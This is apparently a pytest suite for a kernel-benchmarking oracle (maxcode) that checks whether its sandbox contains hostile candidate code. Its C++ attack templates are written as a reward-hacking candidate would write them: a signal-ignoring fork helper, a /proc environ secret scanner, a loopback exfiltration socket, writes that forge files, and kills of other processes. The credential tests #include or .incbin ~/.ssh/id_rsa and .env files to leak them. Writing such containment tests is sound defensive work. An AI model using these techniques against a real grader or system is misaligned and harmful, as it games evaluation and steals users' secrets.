"""The oracle's workers and compilers run in the OS sandbox: attacks written the way a
reward-hacking candidate writes them land nowhere, and every verdict names the sandbox.

Each attacker is an otherwise honest kernel that computes zeros (and so is ``wrong``) if its
attack landed; the test also checks from outside (a listener, the files, the processes).
"""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import DATA
from pytest_maxcode.native import build
from pytest_maxcode.oracle.check import CandidateSpec, CheckConfig, Oracle
from pytest_maxcode.sandbox.isolation import prepare, resolve, works
from pytest_maxcode.oracle.reference import parse_reference
from pytest_maxcode.oracle.verdict import Verdict

STRONG = [k for k in ("bwrap", "unshare") if works(k) is None]
needs_bwrap = pytest.mark.skipif(works("bwrap") is not None, reason="needs bubblewrap (apt-get install bubblewrap)")

KERNEL = r"""
#include <dlpack/dlpack.h>
#include <cstdint>
#include <cstring>
#include <cstdio>
#include <cstdlib>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/prctl.h>
#include <sys/socket.h>

static void chain(const DLTensor* in, float* y, int64_t n) {
  const float* x = static_cast<const float*>(in[0].data);
  const float* b = static_cast<const float*>(in[1].data);
  const int64_t cols = in[0].shape[1];
  for (int64_t i = 0; i < n; ++i) {
    float v = x[i] * 2.0f + b[i % cols];
    v = v < 0.f ? 0.f : v;
    y[i] = v * v - 0.5f;
  }
}

%(attack)s

extern "C" int maxcode_run(const DLTensor* in, int32_t n_in, DLTensor* out, int32_t n_out, void* stream) {
  float* y = static_cast<float*>(out[0].data);
  int64_t n = 1;
  for (int i = 0; i < out[0].ndim; ++i) n *= out[0].shape[i];
  if (landed()) memset(y, 0, n * sizeof(float)); else chain(in, y, n);  // the attack's only signal
  return 0;
}
"""

# (a) a load-time helper that keeps changing its pid (outruns a list-then-kill) and ignores signals
FORK_HELPER = r"""
__attribute__((constructor)) static void spawn() {
  if (fork() != 0) return;
  setsid();
  prctl(PR_SET_NAME, "%(marker)s", 0, 0, 0);
  signal(SIGHUP, SIG_IGN);
  signal(SIGTERM, SIG_IGN);
  for (;;) {
    if (fork() > 0) _exit(0);  // the child goes on under a new pid
    usleep(20000);
  }
}
static bool landed() { return false; }
"""

# (b) the secrets of any process it can see, read through /proc/PID/environ
ENVIRON_SCAN = r"""
static bool landed() {
  static int hit = -1;
  if (hit >= 0) return hit;
  hit = 0;
  DIR* d = opendir("/proc");
  if (!d) return false;
  static char buf[1 << 20];
  while (dirent* e = readdir(d)) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    char path[64];
    snprintf(path, sizeof path, "/proc/%%s/environ", e->d_name);
    int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    ssize_t k = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (k > 0 && memmem(buf, k, "%(canary)s", %(canary_len)d)) hit = 1;
  }
  closedir(d);
  return hit;
}
"""

# (c) exfiltration to a listener on the host's loopback
CONNECT = r"""
static bool landed() {
  static int hit = -1;
  if (hit >= 0) return hit;
  int s = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(%(port)d);
  inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
  hit = s >= 0 && connect(s, (sockaddr*)&a, sizeof a) == 0 && send(s, "leak", 4, 0) == 4;
  if (s >= 0) close(s);
  return hit;
}
"""

# (d) persistent forgery: files in the project, the store's folder and the build cache
WRITE = r"""
static bool landed() {
  static int hit = -1;
  if (hit >= 0) return hit;
  hit = 0;
  const char* paths[] = {%(paths)s};
  for (const char* p : paths) {
    int fd = open(p, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) { hit = write(fd, "\n# pwned\n", 9) == 9 || hit; close(fd); }
  }
  return hit;
}
"""

# (e) the process that serves it, and a bystander process of the same user
KILL = r"""
__attribute__((constructor)) static void strike() {
  kill(%(bystander)d, SIGKILL);
  kill(getppid(), SIGKILL);
}
static bool landed() { return false; }
"""


def _write(project: Path, name: str, attack: str, **values: object) -> Path:
    path = project / "attacks" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(KERNEL.replace("%(attack)s", attack % values if values else attack))
    return path


def _processes_named(name: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if Path(f"/proc/{entry}/comm").read_text().strip() == name:
                    found.append(int(entry))
            except OSError:
                continue
    return found


class Listener(threading.Thread):
    """A TCP listener on the host's 127.0.0.1 that records whatever reaches it."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False

    def run(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(64) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")
        self.sock.close()


@dataclass
class Attacked:
    verdicts: dict[str, Verdict]
    order: list[str]
    project: Path
    marker: str
    listener: Listener
    bystander: subprocess.Popen
    ref_before: str
    helpers_after_close: list[int]


def _bystander(canary: str) -> subprocess.Popen:
    """A process of this user whose environment holds a secret, like the maxcode process's."""
    return subprocess.Popen(["sleep", "600"], env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "MAXCODE_CANARY_TOKEN": canary},
                            start_new_session=True)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    if not STRONG:
        pytest.skip("this machine can make no namespaces (install bubblewrap)")
    project = tmp_path_factory.mktemp("sandboxed") / "chain"
    shutil.copytree(DATA / "chain", project)
    (project / ".maxcode" / "build" / "native").mkdir(parents=True)
    canary = f"canary-{uuid.uuid4().hex}"
    marker = f"mxc{uuid.uuid4().hex[:8]}"
    listener = Listener()
    listener.start()
    bystander = _bystander(canary)
    targets = [project / "pwned.txt", project / ".maxcode" / "pwned.txt", project / ".maxcode" / "build" / "native" / "pwned.txt",
               project / "ref.py"]
    files = {
        "fork_helper.cpp": _write(project, "fork_helper.cpp", FORK_HELPER, marker=marker),
        "environ_scan.cpp": _write(project, "environ_scan.cpp", ENVIRON_SCAN, canary=canary, canary_len=len(canary)),
        "connect.cpp": _write(project, "connect.cpp", CONNECT, port=listener.port),
        "write.cpp": _write(project, "write.cpp", WRITE, paths=", ".join(f'"{p}"' for p in targets)),
        "kill.cpp": _write(project, "kill.cpp", KILL, bystander=bystander.pid),
    }
    order = ["good.cpp", *files, "good.cpp"]
    specs = [CandidateSpec.from_path(project / "good.cpp"), *(CandidateSpec.from_path(p) for p in files.values()),
             CandidateSpec.from_path(project / "good.cpp")]
    ref_before = (project / "ref.py").read_text()
    config = CheckConfig(time_budget=0.1, timeout=30)
    try:
        with Oracle(parse_reference(str(project / "ref.py")), config, project) as oracle:
            verdicts = oracle.check(specs)
        time.sleep(0.5)
        helpers = _processes_named(marker)
        yield Attacked({f"{i}:{n}": v for i, (n, v) in enumerate(zip(order, verdicts))}, order, project, marker, listener,
                       bystander, ref_before, helpers)
    finally:
        listener.stop = True
        for pid in _processes_named(marker):  # only if the test failed: never leave it running
            os.kill(pid, signal.SIGKILL)
        bystander.kill()
        bystander.wait()


def _by_name(a: Attacked, name: str) -> Verdict:
    (v,) = [v for k, v in a.verdicts.items() if k.split(":", 1)[1] == name]
    return v


def test_every_verdict_names_the_sandbox_in_force(attacked: Attacked) -> None:
    expected = resolve("auto").describe()
    assert expected.startswith(STRONG[0])
    assert all(v.sandbox == expected for v in attacked.verdicts.values())
    assert all(v.to_json()["sandbox"] == expected for v in attacked.verdicts.values())


def test_a_helper_forked_at_load_time_does_not_outlive_the_oracle(attacked: Attacked) -> None:
    v = _by_name(attacked, "fork_helper.cpp")
    assert v.status == "rejected" and "process" in v.reasons[0], v.reasons
    assert attacked.helpers_after_close == []


def test_no_process_environment_with_a_secret_is_visible(attacked: Attacked) -> None:
    v = _by_name(attacked, "environ_scan.cpp")
    assert v.correct, v.reasons  # it would compute zeros had it found the canary


def test_nothing_reaches_a_listener_on_the_host_loopback(attacked: Attacked) -> None:
    v = _by_name(attacked, "connect.cpp")
    assert v.correct, v.reasons
    assert attacked.listener.received == []


def test_the_project_the_store_folder_and_the_build_cache_are_read_only(attacked: Attacked) -> None:
    v = _by_name(attacked, "write.cpp")
    assert v.correct, v.reasons
    p = attacked.project
    assert not (p / "pwned.txt").exists()
    assert not (p / ".maxcode" / "pwned.txt").exists()
    assert not (p / ".maxcode" / "build" / "native" / "pwned.txt").exists()
    assert (p / "ref.py").read_text() == attacked.ref_before


def test_killing_its_parent_ends_only_its_own_sandbox(attacked: Attacked) -> None:
    v = _by_name(attacked, "kill.cpp")
    assert v.status == "crash", v.reasons
    assert attacked.bystander.poll() is None  # a process of the same user outside the sandbox
    # the honest neighbours, before the attackers and after the last of them, are still checked
    first, last = attacked.verdicts["0:good.cpp"], attacked.verdicts[f"{len(attacked.order) - 1}:good.cpp"]
    assert first.correct and last.correct, (first.reasons, last.reasons)
    assert last.speedup is not None and last.speedup_ci[0] <= last.speedup <= last.speedup_ci[1]


def test_sandbox_none_is_a_loud_choice_and_its_verdict_says_none(tmp_path: Path) -> None:
    """``maxcode check --sandbox none`` (the setting behind ``--maxcode-sandbox`` too), from the
    command line: it runs, every verdict says none, and a warning says so."""
    from conftest import run_maxcode

    project = tmp_path / "chain"
    shutil.copytree(DATA / "chain", project)
    canary = f"canary-{uuid.uuid4().hex}"
    bystander = _bystander(canary)
    try:
        scan = _write(project, "environ_scan.cpp", ENVIRON_SCAN, canary=canary, canary_len=len(canary))
        r = run_maxcode(["check", "ref.py", "good.cpp", str(scan.relative_to(project)), "--json", "--time-budget", "0.1",
                         "--timeout", "30", "--sandbox", "none"], cwd=project)
    finally:
        bystander.kill()
        bystander.wait()
    assert r.returncode == 1, r.stderr  # a candidate was wrong
    good, probe = r.verdicts
    assert good["status"] in ("faster", "not_faster"), good["reasons"]
    assert good["sandbox"].startswith("none") and "no namespaces" in good["sandbox"]
    # without a sandbox the same probe does read another process's secrets: it is a real probe
    assert probe["status"] == "wrong", probe["reasons"]
    assert "maxcode: warning: candidates run WITHOUT a sandbox (--sandbox none)" in r.stderr


@pytest.fixture
def credential(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    """A private key in the home folder (HOME points there) whose text is a unique secret, and that secret."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    secret = f"leaked_{uuid.uuid4().hex}"
    (home / ".ssh" / "id_rsa").write_text(f"int {secret} = not_a_value;\n")
    monkeypatch.setenv("HOME", str(home))
    return home / ".ssh" / "id_rsa", secret


@pytest.mark.skipif(not STRONG, reason="this machine can make no namespaces (install bubblewrap)")
def test_a_candidate_cannot_include_a_credential_file_into_its_compile_errors(tmp_path: Path, credential: tuple[Path, str]) -> None:
    key, secret = credential
    src = tmp_path / "steal.cpp"
    src.write_text(f'#include "{key}"\n')
    control = build.build_all([build.Source(src, "cpp")], tmp_path / "plain")[0]
    assert any(secret in e for e in control.errors)  # unsandboxed, the compiler quotes the file
    boxed = build.build_all([build.Source(src, "cpp")], tmp_path / "boxed", isolation=resolve("auto"))[0]
    assert not boxed.ok
    assert secret not in boxed.log and not any(secret in e for e in boxed.errors)


@pytest.mark.skipif(not STRONG, reason="this machine can make no namespaces (install bubblewrap)")
def test_a_candidate_cannot_assemble_a_credential_file_into_its_library(tmp_path: Path, credential: tuple[Path, str]) -> None:
    # the assembler reads files too: ``.incbin`` in inline asm copies one into the library's
    # read-only data, where the candidate reads it at run time (and could put it in its outputs)
    key, secret = credential
    src = tmp_path / "embed.cpp"
    src.write_text(f'asm(".section .rodata\\n.global stolen\\nstolen:\\n.incbin \\"{key}\\"\\n.byte 0\\n.text\\n");\n')
    control = build.build_all([build.Source(src, "cpp")], tmp_path / "plain")[0]
    assert control.ok and secret.encode() in build.verified_library(control).read_bytes()  # unsandboxed, it is embedded
    boxed = build.build_all([build.Source(src, "cpp")], tmp_path / "boxed", isolation=resolve("auto"))[0]
    assert not boxed.ok and any("file not found" in e for e in boxed.errors), boxed.errors
    assert secret not in boxed.log and not any(secret in e for e in boxed.errors)


@needs_bwrap
@pytest.mark.parametrize("where", ["project", "home", "elsewhere"])
def test_a_compiler_sees_the_toolchain_and_not_the_project_or_other_files(tmp_path: Path, where: str,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    # an #include of a project file (a .env beside the code), of a file in the home folder or
    # anywhere else would put its text into the compile error, and from there into a prompt, a
    # report and a pull request: the compiler's sandbox shows the toolchain only (issue 13)
    secret = f"leaked_{uuid.uuid4().hex}"
    folder = {"project": tmp_path / "proj", "home": tmp_path / "home", "elsewhere": Path.cwd() / f".probe-{secret[-8:]}"}[where]
    folder.mkdir(parents=True)
    try:
        (folder / ".env").write_text(f"int {secret} = not_a_value;\n")
        if where == "home":
            monkeypatch.setenv("HOME", str(folder))
        if where == "elsewhere":  # "." on PATH must not show the folder maxcode runs in
            monkeypatch.setenv("PATH", os.pathsep.join([".", os.environ.get("PATH", "")]))
        src = tmp_path / "steal.cpp"
        src.write_text(f'#include "{folder}/.env"\n')
        honest = tmp_path / "honest.cpp"
        honest.write_text((DATA / "chain" / "good.cpp").read_text())
        control = build.build_all([build.Source(src, "cpp")], tmp_path / "plain")[0]
        assert any(secret in e for e in control.errors)  # unsandboxed, the compiler quotes the file
        boxed, ok = build.build_all([build.Source(src, "cpp"), build.Source(honest, "cpp")], folder / ".maxcode" / "build",
                                    isolation=resolve("bwrap"))
        assert not boxed.ok and secret not in boxed.log and not any(secret in e for e in boxed.errors), boxed.errors
        assert any("No such file" in e for e in boxed.errors), boxed.errors
        assert ok.ok, ok.errors  # the toolchain, the DLPack header and the build folder are all there
    finally:
        shutil.rmtree(folder, ignore_errors=True)


@needs_bwrap
def test_credential_files_stay_masked_inside_a_readable_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("secret")
    (home / ".netrc").write_text("secret")
    (home / "notes.txt").write_text("visible")
    monkeypatch.setenv("HOME", str(home))
    job = tmp_path / "job"
    job.mkdir()
    box = prepare(["/bin/sh", "-c", f"cat {home}/notes.txt {home}/.netrc {home}/.ssh/id_rsa"], resolve("bwrap"), job,
                  readable=[tmp_path])
    try:
        r = subprocess.run(box.argv, capture_output=True, text=True, timeout=60, start_new_session=True)
    finally:
        box.cleanup()
    assert r.stdout == "visible"
    assert "secret" not in r.stdout


@needs_bwrap
def test_compat_builds_are_cached_in_the_project_yet_written_only_by_maxcode(project: Path) -> None:
    """torch's load_inline builds in a staging folder seen at the cache's path; maxcode copies it back."""
    cand = CandidateSpec.from_path(project / "inline_ext.py")
    with Oracle(parse_reference(str(project / "ref.py")), CheckConfig(time_budget=0.1, timeout=120), project) as oracle:
        (v,) = oracle.check([cand])
        assert v.correct and v.status in ("faster", "not_faster"), v.reasons
        assert v.compile_s is not None and v.compile_s > 1.0  # the extension really was built
        staged = oracle.scratch / "job" / "compat" / cand.hash[:16]
        assert list(staged.rglob("*.so"))
    cache = project / ".maxcode" / "build" / "compat"
    built = list(cache.rglob("*.so"))
    assert len(built) == 1 and built[0].is_relative_to(cache / cand.hash[:16])
    assert "chain_ext_" in built[0].name  # the name the candidate gave it, with its sources' hash
    with Oracle(parse_reference(str(project / "ref.py")), CheckConfig(time_budget=0.1, timeout=120), project) as oracle:
        (again,) = oracle.check([cand])
    assert again.correct and again.compile_s is not None and again.compile_s < v.compile_s / 2, (v.compile_s, again.compile_s)


@needs_bwrap
def test_program_runs_are_sandboxed_by_default(tmp_path: Path) -> None:
    """A candidate program is model-written code: under ``auto`` its runs (and the source's)
    go through the sandbox, not only when a kind is named (before, a default run let the
    program write anywhere the user could)."""
    from test_programs import FAST, SLOW, candidate, make_project

    from pytest_maxcode.oracle.program import ProgramOracle, program_config
    from pytest_maxcode.targets.program import ProgramTarget

    root = make_project(tmp_path / "proj")
    pwned = root / "pwned.txt"
    # honest output, preceded by a line that makes it wrong if the write outside its folder landed
    attack = SLOW.replace("int main() {", f'#include <cstdio>\nint main() {{\n  if (FILE* f = fopen("{pwned}", "w")) {{ fputs("x", f); fclose(f); puts("pwned"); }}', 1)
    assert attack != SLOW
    p = ProgramTarget("sums", Path("src/sums.cpp"), Path("cases"))
    with ProgramOracle(p, program_config(p, 1.05), root) as oracle:
        fast, writer = oracle.check([candidate(root, "fast", FAST), candidate(root, "writer", attack)])
    assert fast.sandbox == writer.sandbox == resolve("auto").describe() and resolve("auto").kind == "bwrap"
    assert fast.correct and fast.speedup > 1.0, fast.reasons
    # the project is no part of a program's view: its path there leads only to the folder of built
    # programs, through folders on the sandbox's private tmpfs, where the write lands and is gone
    assert writer.status == "wrong" and "got 'pwned'" in writer.reasons[0], writer.reasons
    assert not pwned.exists()
    with ProgramOracle(p, program_config(p, 1.05, sandbox="none"), root) as oracle:
        (unsandboxed,) = oracle.check([candidate(root, "fast", FAST)])
    assert unsandboxed.sandbox.startswith("none (not enforced")  # only when asked for, and it says so


@pytest.mark.skipif(not STRONG, reason="this machine can make no namespaces (install bubblewrap)")
def test_maxcode_check_json_names_the_sandbox_and_hides_the_callers_secrets(project: Path) -> None:
    from conftest import run_maxcode

    canary = f"canary-{uuid.uuid4().hex}"
    scan = _write(project, "environ_scan.cpp", ENVIRON_SCAN, canary=canary, canary_len=len(canary))
    r = run_maxcode(["check", "ref.py", "good.cpp", str(scan.relative_to(project)), "--json", "--time-budget", "0.1"],
                    cwd=project, env={"MAXCODE_CANARY_TOKEN": canary})
    assert r.returncode == 0, r.stderr
    good, probe = r.verdicts
    assert good["sandbox"] == probe["sandbox"] == resolve("auto").describe()
    assert probe["status"] in ("faster", "not_faster"), probe["reasons"]  # the maxcode process's secret stayed out of reach
    assert ("maxcode: warning:" in r.stderr) == resolve("auto").weak
